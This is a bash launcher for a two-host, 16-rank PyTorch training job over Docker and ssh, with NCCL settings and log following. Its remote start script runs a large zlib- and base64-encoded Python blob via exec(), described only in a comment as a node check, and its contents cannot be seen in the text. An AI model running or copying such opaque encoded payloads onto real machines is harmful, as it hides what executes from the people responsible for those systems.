#!/usr/bin/env bash
# 16 ranks on 2 x ecs.ebmgn8v.48xlarge. job.json says why each value is what it is.
set -euo pipefail
name=${RDMA_IMAGES_RUN:-erdma-pytorch-ebmgn8v-48xlarge-2}  # of the containers
hosts=(one two)

# Whatever shell answers there: bash's own quotes are bash's alone.
quoted() { for word; do printf "'%s' " "${word//\'/\'\\\'\'}"; done; }
remote() { ssh -o BatchMode=yes "$1" "$(quoted "${@:2}")"; }
end() {
  for host in "${hosts[@]}"; do
    remote "$host" docker rm --force "$name" >/dev/null 2>&1 || true
  done
}
# What is there already is another run's: it is not this one's to remove.
for host in "${hosts[@]}"; do
  if remote "$host" docker container inspect "$name" >/dev/null 2>&1; then
    echo "$host has a container $name already: wait for that run, or remove it with docker rm --force $name" >&2
    exit 1
  fi
done
trap end EXIT

master=$(ssh -G "${hosts[0]}" | sed -n 's/^hostname //p')
start='set -eu
for attribute in /sys/class/infiniband/*/ports/1/gid_attrs/ndevs/*; do
  interface=$(cat "$attribute" 2>/dev/null) || continue
  mtu=$(cat "/sys/class/net/$interface/mtu")
  if [ "$mtu" != 8500 ]; then
    echo "$(hostname): $interface has an MTU of $mtu, and the job was made for 8500" >&2
    exit 1
  fi
done
# The node first: devices, limits, GIDs, neighbours. `invoke job --no-check` leaves it out.
(PATH=$PATH:/opt/venv/bin:/usr/local/bin:/opt/conda/bin
if command -v python3 >/dev/null; then
  python3 -c "exec(__import__('"'"'zlib'"'"').decompress(__import__('"'"'base64'"'"').b64decode('"'"'eNrFPGtz27aW3/0ruJ1JSSYyLTmP2+hGnXFtJdXUdjy2270dRZdDiZDNmiJ1ScqJt81/3/MAQICkZKcfdjOtxQdwcHBw3jjgsshXThguN9WmEGHoJKt1XlROlGV5FVVJnpV76lFxs46KUtT3RfSgbhbVw1ropstFVqXq5ibN5+o6WUdxXIhSt/yjzDN1neunhaivynxTLPR9KVKxqPRdvrgT9V1VbIx3m/m6yBfGWOWDvqySldhb4tQB7yS7UdO+/v1iHB7/PD7+ZXL+oeccZTDBpf10uOfAP+q7yFPEBokURPOFAjKpRBFVedFzrsR/NiID7LHL+ySLcaiRU23WqZgCuj1H/ZlRkw9JrF8nWdWr6RVMLu7fHPG10WGSwVjLaCFaUPn9+2hRlfAuThYVv4Ip8avLKEl34fKbKEqYWQMf+We2d3Z0+Qu8c4t4Fe0nq+hGlPtZHov9xa1Y3Ll7Fx8vr+H94dtXb9/uXRxdT8bnx2N48KYf9Pcux0fHP8PNa7w+mpxeherJITyZXByHpx+PEfzg1d7V2dHpaXj18xneOu/eOS/7e0fHV+Hx0cXRT5PTyfXvPeeny8nJB4TuDV72nMHrV30fxjiZXI6Pr6/g8SvnL+eHvYvLj//6PUTE8Nmf7sujt2/dnoO/Y/fr3unk6np8jq/c/pG7Nzm/mpwQTDfNsVmMzFbg1X1SzPlCVLf4u8gS/Fnn8X4S76dJdoe3yxSkSKTUIEoT19/bi8XSWSZFWYXQSHjrqLodIsl9Z/9H/GXmqooHvsB/n5Pq1snXIqPWPQf4KUc+Grmbarn/A0AXRZEX5cgtxDoFVnB9JyphlFTUQPBfIUDEM3oRFCKKCQM/gFGTtedTU/FlIdaV8/FqjCDr7rKr6+7tLdKoLJ0TcZ8sAD61wEmFYZIlVRh6IKDLnlPkeTVkhrLneJ5nBlrYOMiiFbJvXgbYNJhHpcBHNF3fbhoXyb0ouhqrBzCxFC+ot/PCcQ9iQvWAu7p+A+JaELzGmpgd14drt9GpBM0otvRCDVAeDA6oTbMjsIsoMlE90hcZKEyjB8TXGQE/jmU/1wZ3k8Qo3GlSVh5ch1U0T9vgzDkDCebYZdoioMiA63xnmRcOXYKUk+YO8E+LKEm2hPWeR1kcEsiDDf08d/1ZY3FBJcB4yA+qv9H5wIWH1HPanzmgaRk/kZYCmU1BSpSWQ9RLmJWIvT8NAj4Rd0VeJFVUVUV5kAE65QFg/dXZB4Xgfm2sV2Ko1xoJiauBVRNh6ryqNvY6ayKAITogOTqANSUaNEbDRtAdVh/GabzrHGtT4tLDcPM8Tz1NedAEWYzCEi3QENYvevjwMvz4CyhGuPpvuJLayeAjIFctuMqoTcFGzaQNBHqDTRNfkN5FlN0I7/D1G78W70p8abC6+6xE8pcHz2LXeebQGD0GYnApTBq8D+repcL0I2kbcXG67KSHACyoQEVPNvRtyA+JSGPHI0x6CnCvA3XJOeTudM5C0hE1bMjSUnpaHRIpUV6nrEElJaV+lQ+pOStOZmriYKCxZP2atTs4yhAu4GsQR8ImX4bLaF4kC0+iNLSwgInS2104Avm4EWLiuWIZoWETaP9dv2UqpjwOoS8voZscHGHxpdboIwl8tvf3gSDPdOAmSUB+iV6Rx8nQA/duk8GyAdPYEiAdOUmXBfjBCfhKaJWaVFYAmQm1kHbPSwOqJ8Y9ZnuGUKhWNcUl67rkBpCjwoPjJdgN5w5NR+rcglOQ5c6zUgKHiYFrKEmXlAQ8zaNYxKAcCgd7JhlYMXBfZd9MELdLLoA27uXJ2ZEyLyKVGDLSNX5oXpA6iE/wR55kniQPW/5uIkyHr2aGRtg1R5hRVAhEuAC9hgqvYWU0+rBA2GzlYNMheEl3NDpOVcGDCRK+xpyIDQhuCk4Yz8533snn+87gaUvxLMbh4W8UR+sK13kRZc5cAL1ETBgRdY0xJAdKMsT556zmnS7aSf6q2Yf9FMTcPTq+nvw2dpWMmA00e+EIO+ZC5lMxFUdzzDUQYwATDYG1cAb1MiM8iXyOq1PuRr8t13JCOAHZTKKvuGTW0EzoK6HwUxejNw/fntvnqMhAktsMBTODYRp81HOqPGcOw6W7TcC1Gb8/Ah0iontgrg2QwrnNy+oC9DWSgocFd0HahGyxSNFfwrjKI52igqy/DMfY1PjT594yT2OQUNTy2X0SJ9EBggEfcY7/43VQ5sGhS/1kY7QVD+zhARe5VruZIZmb1ZzcX47eg0WIBrKWOisOIV3H7Y5PTk/ZPQ8Q7gdRyXl4ssH8oRBLj8EbUizDC0/GFxCMgi1N5ptK0H3DJC/yrEqyjdAPV9Ef2Aksc0Uh7f0qj+UgwX2UbkD6B334R6rSeOz8OJIvyHfCS79przwT+MEBNpI3z/DaN80SLpVpU9Ch2WZQyCmQ9gRpNWws+Qj/7DIvMEy0SXHC2F2JHPYiRqSH7xzvsOccDnpOnz0+j+UE/RHNUi1BGzb9LW+b2Om45bEVkoCi7MHz3HvgSRjtDvCokQJaBUkZcoSTQ1jMHk7Ywzc9blzrJ6Ss3+2p1XoJG0mxlTbuw+QEde1lfjx27g8dYDAHB9ynAR0gXcnGr3aqZUfp96HsGnrKciELESw3abqKqsWt5376FL9wlevXIA5oAkEaGxCkSTJPypmGjWnWTItaDOWQgc4soMoJINj2eDtpc358fBpOfgqBMuHk/GT8r9GzkjVZTbVys7hF0pEZko6wSQXfGo5NI+EBCs5e0+2IGQp3F2rI5pG5ZnJF2cLsRq4APSwwjTaV5GyRvoPJkLAthiVeXd+/ClfRei3imckGSiyxnRyReLyvTBQ/3MK7W8gA3gAgK5zD4HDgVNEdGEOceJ+n3nM+3yawRFIF8ABDp4N+HJUY5OnJ1miKfFN1rcQqLx48I13Tqcd2Kag0WSWonlSmNrgRVUEPPf3o8nRyNrkOz8ZnmNfzAQ3qiu7HpqS+QSmiAiXq38fRerxcDj99Kp97nz59fuG7PQqm6mAH07oHGMoeMADXxxbB2a+n15PTyfmYeWEVPSA33mHKgMdp6k4UMn4V3AB91t4AAA3e+M6PMFmVg/zeGWj/SDoo5ArSrP/LmDbOERbg/eR8cv17rfAUGv4OzwpWAZvgJf4CL/G6IMY0EDypcvQdf0l+Gjr7+xseXvYb7Q+G+wPy2hXa7EpSIzJmh6+khFgmHSfPyTS8ul+WnpWnKW9X7lPygoo+CCRYhnPEqXSeq/sl2Lv/EWCkdCZ3pyOGo/ZqDEg7wczPcOYkJGSXoiriaAW8ykwgxXLpQO/GApb2sG/LwO3mRoRrTGCbctAMiLdw/7IQosHAPwO8CwQXvoeXipHjbYwMiwguZt7NxFtcWxrVMPSVh080F/v+TgrjhGm+eAOKH+8dfID8hoCG6D0uqtS5XwVZEer2Sj9hAPBHPnctMt6sNxYBnxY9Yy+gX0dKA9efHd5pf//t7LmrKYIhEvbTQdgO0cJ2VvT14eJXjhdBR+M80IeJkkwUOvoi0HbsJc0uIQtSRrPsEoIoKz+TQ11sMs9l7PfLFW0O7O//ZyOKh30AMmIDJhaLgHP3wSZb5EUhFiDpwX2eRhUm6au8ilLuCmQHj2O0KO97WX4rkO9reshRYfHs7LqB2IJyfjIfx+1Vb3z1BALWk1GBHqXX1PZBUK7TpMJEWQmRDdBo6oovoH0QusMGCS9n/nR/MGPM5xFZ6SL/zJ09t+eiaSCDDU9phWgIE3SnC9Zznk8HwCRw/RylDEEyXr6dPEFsUG5g7J0iomZtrIvSybxi4EUiK7ViXgAseQa9l7KbFbJ7tUW0v69MmGZu6kYxe5JxZE1eCT2fDmZBmsPiebslvB4A4tTz307hhkNaFarX+Djc1jEwsYU6TnD+j7oIPZIO+Qw3Ef9mvKNiEZK1iDyxB68RmXSGM5bWM1gfd3hKcwsCc6WcEztYrQ54VUNqxUl1ToIZm0xJCTSwc60QeW5SIfUTdQY4LjH+U3pRj5C66HXnUWW+3oBAmBlhnbGxQTPjxADmeneyhMJRi7LCmpyMenByLcUNrKIo0L3EVxAsOdESHpDGxKSfzBsqvgUbHcarKJxvlpjo+7iGwOcXTjue0ZyJhbu2QsgEMjCV3pAJEtdSvZ5EEQhsDPb0KYsEQ1inMfUMwEUqB0obrbibDYCHKNwnxPk8XyBSvlx2LhetiolUHZjzayNEf9lzwBN7bDGRM57XdHjyLBsxxMvglRPngr3eEjyGxuw/Y9IRNJgcUfnHFWdHuwkAyo4ZUhECnHzWEFjaMATjsihDcFhi5U49gj00x5+L44lzdHzlKGCkX8FaS0g93NF+VraQWkZJShYZsCtBMWobbiBFfpW+MyIgXLI0mRcRBEAYJNW+Hm6idezEm9mvOi/wyJ75+ygthZk9ui42dvYoLhb52orBWpoUUZXthoTdIxpUK0+jY810Sr+AgS6rhs8PjePi/jGekyBVMpjKP8hR/3ByeQwvjDQ8A1S8xaxFOkW+yNkN401Jjrrv2cNc57GRmrftEnjCxMbfbpZ2UQ6gbt2d6djbIX/c35WvpvKC2f+BitQLjlPYrpSiNNW2lCsfAJXzI7cxVwDyBKUDv9+N3x+5ehNJ6xqIcha3tHbobbvKc/LWh2tOZZCveuQPKckBDsrkZIJwsMpFbVexrSy/A4kGdDDFxCJHTNBUMo19S1xnRl82wlWdtZLru7dT55vyYL1IZMUDVQn4w+ZmclcVB+3Dsi/g9l2dUfgBswVcqPRIFrWVdrdLgHiQPFsmtBTFfFvBD4X4a65e0FU/3qv+2zetlHxLe3UiBgagpOKVw9dv6vqkWwCNT5x3I9UCrlAL0+CwLM4PNmAMYCgtg/V6EPtAs7sQK+o8990E5kT9ehKYzhYZpCcA3ztvXr9++Rp52K4Ha1OBkhMdg/3cHAxo+4ZikO8dXT/WBmdwVoCpwSz2uquX/L12NxHdWU+XeQqWiwsDaV6UorCaaLrXbTExoG9+VC1of6NvWhuJJotNXbHi1cKiSwilyBCzcWFlwD+evDt6H07Ox9c99fbq4/Ev4cmHy6MzYkDQU3Mz+szzFQabWCUa0F/P/QnoPX+oYPzBm5c/vDKztlgpSfs6cqFwmTw3OYUeZNABmk91ZasA1NkS3GfMmng+7a4pKLSV2mAsCYRKUoMkX1SpR5gGKBIZQOg5L1/339J2D+Hga46jLNOIB61yRlzuBOWfeTcTWkyzYQZ880pGrlldDQMwESPw+fq+XdgA8/k8HQ7ezGToO3c/fen3KfwNYoFhKuIl6QzapQqzKo+o12F/eIh742aYjOjIMgfwDiqYf7QO9WqTs6JsYL3cPVjq0ijNq2tJzd1IYDRqZmqMdENVAuILhJNYIIkNMIVYVCVyj+f+G7NZ9DTlOByfWC1GZlXa57ygQrZWD3U9cn0jR7CnO3I5Jfgw2/y3hjNGsSTXG45oVJweT4NEB1+ZaGITJjQ3ziSqSBR81dpGzMSXysNlMleHCyASiSquIfAsWgNFSiAWhcW8VV7EGHnJ1EgnHAZh0TOZq9I71f/FDgC8f9AEsq3Q1f8GyB2oSXD+DISEShWNAgtJNglZFtapcWhJmputtJFh5Rl5L6zFvrscPSW+de7JFqd2lhYL9Who1051TQfDmRRtfEtQ5RJTHmo6kL//oM3git696RBfldiEa3AXnH/InSUEgKzi9uU/t/ZjeGcHMANevOs5q6i8k/uKjIvlrcjtSJkkdGR3BK038R6x/uTrwPxWWMHTWH85eckAg+HLGUqYZ+HmA5vfiYdRGq3mcYQNh9T65czaYKVhkBMANRLrx3bQeFlU+Muc5+TokKo9TqMKCmYK8lvltP8r0VONhxx7kPOKr7HgRjahwJLprfCzNxGASb5YMRwGNOWj6e9HGNHbwonVYg1O3wtn++s3ILUWozLbUA0PFr8zZwXFGqiV4AkGzx2C+TmcPcKXLzVf8hLLovmvda4Gpg3tBtSOh/tx5Bil97vjCiQjBhaTEpByyan48iD3QnF94REwZiZPXXBBF/A0xIpg36I5rLAMHUunTMCSRkWQICiw/AdJ9gf0GzruEmNy9ztrAbXd9LYplKeuaUvYdmTXtY3WO+HoVI2vw8n786OzMW6FL4lTc6NYobqNqPZqs6YiozIQEBYWeYY7r14HFITdqNIzF8mrd/ENtc3HHyiKqYtrk3UoL1Wnwcxv1HN8y2zB4qcpi6wSQsd7hrsvvNWdc9KO0I3zOrak7QRCQFXbYiLI2753TQ/wxEtD7mZPKY/h7X9ZyWFWBDxWuvI3qgq25BHqxceH3LPh4cCMVDBib/03QdAZH49hkB6zTDHCqWkaIuFEhokWuBvSoSE+q2IGCKoQgJtSjb4ZPvjW6wACFXyRr3VgcfVRcawRW4Q/Tc5Prj+ejH+bHI97hA1qLDr+At5xA+g8wXlTo8MZ1kE13vOFZ01VvdQF26AJ4pBZCUshDa7poVoBxS+f0R88ScXcBTOa2oekZiqYihLMOvYUdFwNPnmDfvOfX3vYF119PJAWrHLg8DxLFh4qd+NgVF3FpQpZvLDnGCsa+pS3gbeokgSibwgidiRR4n66uh3Vc6MjT7Nd5yU17pa1bTfEVaYteJi9RznQXS3/Bj/oyTc4omMAeRmKL55nz93uIhdrWned4SopkhMFuQfnPGR7djGa6/dOr7S9DgYtMQVFxxkD/vGmwGfkIUvIwBf4aBV98fpB3+Cd/dZ4ELQOGg7cOkpQFiWsYJ2DadOD+51lZTXNbp64KOPLy4+XfjtFIvk9AHp7iMj2xUlBjXs1g9v0kcgbOfjunkp58ahWvNAtzjpg3C3Z2008+kQoZeim4nVLcIwtSCuhJ3GkopGGxlG4PLnoxtIIrOd7aJB2qwPctVG9ZI2urlpjlB73uRFlWXTZSPs+K2WOlwz69fEFKJxKlQwoHJ/zRGWJ3mw6HMg1USTQbwazhpQ2zwChB4u2WfYjKZ2pMgJ2IHRCxlgo3yIDy3aDCpZp5nHk9mzb4Tq+/Hh1FZ5Pjl2fwzW3kcKVKQ5NgcY0+3r+NJCV1XrCGjDGZU18tZWLUQ01pJoXgk02x7GxHvVxeQjJTmrLY59nQrA4bjv3ucTzxkM+dqwNTSsiQmue3clLCA1ByGQbYFQWh6E+O80SOwIVt+X86JIH02fb1DWOIS95DCS/bCzbcRN+2zj61/ZmFkDkSoSlKICxDUvSb54ppTGmriomRiNigVTKlfLEjb40+Z7dnvgGDcHUejzrHpbZYlZ7t0pR4AvaydI0tla6tevQIoX2L9ueYbM4eMeuQmduwZ6/OY7fbmNPVDu95PyhHD23scaKI5vkvl8z8JIVO5+N3KXzO2mkC774XDCyhlcf2kT2wiBZHjygZ1F55+04EfEbHljg0xCYUxdt+nWV+4jk5naebwpZ0YeWfAWiDlaGsvkYEhuhlCrgIuA7lSuyDQRZFcohsg5Pd+rGCWbg8Wnpzh5Fz2zd0/B864CY4ZWyZtR1atN6eu5s+0rYQlq7CR455vrUZ89hh9ryHtos+wjtdURbo6bPDWlLiOUhFeWgyBJyRGvkqHQdnTV/4mBemebxN/7mhOHVmBrDNJ4GezNLat4mxVzPaQ0jCqzSpO9DkDqW34MwnXyd/6DeM1Qtf/aHjscPa5H0vxqJeR3ldEQ26nMQ9jcOutWsC5TFvBGVcWxKEaLjPqKIoufMo8Vdmt+MqMAZ14x7NUwvOeto+uV00TmvrUWX0kMgGJcg7vmm8qQHPnjEBW9B6tSp7YiKx8Mz2uBut/Y7n6JQKU2RlCVvI8qNbQwt2e+pZ4tWlGJORQu/ExYwFSgsOZzncuks52HQ40tiGS+sSC3AO+Zk0wZLdKbDH4Ch1Ypj3hu5mLL624li0t4IgK3Zgqxg1cmIPiETYElJacQ3YPLvBO7web7xsYs2GEmGqQSHViW7c4nHDWg9NVwNwFBqeICO9a03JUFQeSG+AQLJUfg4GiZjazis5Cgn+7VhrtE3obow5dArMEklVqXXiLq0KgJQalYeWaAXzsCH1akXB73qDjNWTrE5ibeh2IaYxpc3oIuhv4u+av1I+znWU2md/Yb+H1qEw/0C20ZOZ1+bkSlSoM3x+DTAbD7WtBALxJvVuvSsqfg6OQBEmLufMtfvBtS0Bnq/kIGBRGqNigZ8mz79VrVHmgkLwp7ginUlYdrWzjP8Xa04t4hQuxbhSUZQLktrgj92ZDx26BR0SnhLib4R0mU5tYW0JiWN4w5FQqiVqRBr0NqvfdvM1MQa7j2uffSXi150UdHq02JFNKqeGaIgT460Z+g/xp2SCb9Bv1HNUbZJUy4/Ao1SOwJV9FDzrR1GMR/SZtMD1nDaWSnbm+aUFP5/GPSp+mLYKGcp6kyw3Evt4GYdCxlWT0shp2+kSpUuKyVm2AHpKvRSXmUjq097nHWp15/62DnzXCZtmtkUn/DnYEjXYY2qVHAUc3NZPWu3r8bc5w8hafeh8a0tjeOsrd4tBGz6KFDIh/KcoYcpe2xKKQc+8Yir4KvoB98p7Wxtp6LfowCijA7ssepqA0kiPbg0MtaeLT4bOvsIEy+7kjO0Rez+U3/qAb1irOVlQZbHtOvzElQLwB97ILLIBrKeoK4MGNjfg7CWXNGAklFkXUhzyBJiIvA/bV+7rjcgd5tyefWjwczns9/2zogeTx7mB7ghCfYTilCNdOPuUxGGQdEfuzIOl336VNJZsk+fAvyZ4t/Zcx8eu71vLh61ZifZfSgDCcpqwZ37LA7oP/oyBp1A5+8YqO8QYVOq35T4ooWnC30ajTa2eC51n/F7o8O2byTJ8xIgAjXSPf7qiP5gB6DYk7ykhNz+KszTPjLxFeXJlSeGwd2VW3CNoVAKy83qqedRAOLZ9a87UMRPRH0TfvZ5E0bo24+p+LQXG4svojTOyXfhifD5HPoWPPU3oHbvgrY3Nh/bF4UJf62/pPT/+6W8p38dj/DdZN5zSqXWCBu7g2gPrAo7aw5xTt5j/fHKAMERNOwag08yMl5eTC7G9BxmZj6/uj75+Os1bytil8O+NYX3MLPzvHqfb7K4ezLar2plqIxRrhn6+Ms6AdXZlbBSX9cY8KazmddQr3DGAd/wKUV6wFNVtZB6AeuVk14C1RyEOolnaOJ8TSUiQ/3d0uAcjQpX+3Yp4d1f4WB2H7W/6+X/7XOs6O+aZ8o9dcb0keO7URHDrTDPNUV0GJGOM2Wm0kK3ms9c5Fn6wCctyLTK8+/qA3af8SQQpZZE7PpdW02tFFTjS1qa4AEfk6jv1feO/G449PWUjtMVNji/173vYn74gOtceHG3DGZ870Db6i1NG8fCWwhtmY06BV23pxXd0to4+8MnVXqyNjOv9PkddUYJP+MDHaJ1wh/yqc8m25jpo+LD7flD6/yMpgSjoAqFSrEDgH0wtAFBLUHtJ3He3VLdqvSzsarIvOHk7OjD+Co8/3gy5khGxrvQAr+vJDdO6l1eb4ew7y6/y+kDCJJ+eBsUsub4QMoBOTsjrpqk+sZcFQtbX3NqLnCHYtIsYbKo/kxMV+G2WbDf+8ZKr9aSNSvcag7lzGB3r7retqdLrjob1hWQnYANNrXLz9RTuUdHX9dqfN7mUe1LQZX81HHDLzdY0+BEcwUoDFJ7YjgGb8c/qpHq3iveFoW+coNUbTPqIrkGSepbzvLZNDC2QTu3AORwgWauFiYBRftSQlYROHQgF5sVBDCto3CJ+nwCiU1BJzakCB3JPhf0Bk9N3Izws8++0R4LPEIF3MMvFRBx3J76Qs7IdXe2V9YBeuDxyhH5SKpvf2dXeUj/W7vRCnT2G+zsJ2P/bx2O1/TpBEGmNVsrPUSbRlhBhodeKWL3mim4nmNUWvHeHeinpHpQ20PmXh4rTokE/SAaZc0p5nE3OeZfIw2SrQztgxnbSVjhjizSEDYbD3SLhsZOIEwp3ZS3I0yEStJsA+Sic8ilpM6zYLCU+w6tXOS+IpffBi4NDx3fo2n5+I33kMYIQ5pXGKLQhKE0ofgtPfyahUeihHdApHss/ff9/wViYbsz'"'"')))" \
    --fabric=erdma --adapters=1 --gpus=8 --nodes=2 --rank="$1" --master="$2"
else
  echo "$(hostname): no python3, so the node was not checked" >&2
fi) || exit 1
mkdir -p /tmp/nccl
sh -c '"'"'while kill -0 "$0" && sleep 1; do
  for log in /tmp/nccl/*.log; do
    [ -e "$log" ] && mkdir "$log.read" && tail -n +1 -f --pid=$$ "$log" | sed -u "" &
  done
done'"'"' $$ 2>/dev/null &
follower=$!
torchrun --nnodes=2 --nproc-per-node=8 --node-rank="$1" \
  --master-addr="$2" --master-port=29500 --max-restarts=0 \
  train.py --data '"'"'it'"'"'"'"'"'"'"'"'s a test'"'"' && status=0 || status=$?
sleep 3  # for the last lines of NCCL'"'"'s logs
kill "$follower" && wait "$follower" || true
exit "$status"
'
running=()
for rank in "${!hosts[@]}"; do
  remote "${hosts[$rank]}" docker run --name="$name" --gpus=all --device=/dev/infiniband --ulimit=memlock=-1:-1 --cap-add=IPC_LOCK --shm-size=64g --network=host \
    --env=NCCL_DEBUG=INFO \
    --env=NCCL_DEBUG_FILE=/tmp/nccl/%h.%p.log \
    --env=NCCL_SOCKET_IFNAME=eth0 \
    --env=NCCL_IB_HCA=erdma \
    --env=NCCL_IB_GID_INDEX=-1 \
    --env=NCCL_IB_ADDR_RANGE=10.0.0.0/8 \
    123456789012.dkr.ecr.us-west-2.amazonaws.com/team/image@sha256:5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e sh -c "$start" start "$rank" "$master" > "erdma-pytorch-ebmgn8v-48xlarge-2-$rank.log" 2>&1 &
  running+=($!)
done
status=0
for process in "${running[@]}"; do wait "$process" || status=$?; done
exit "$status"
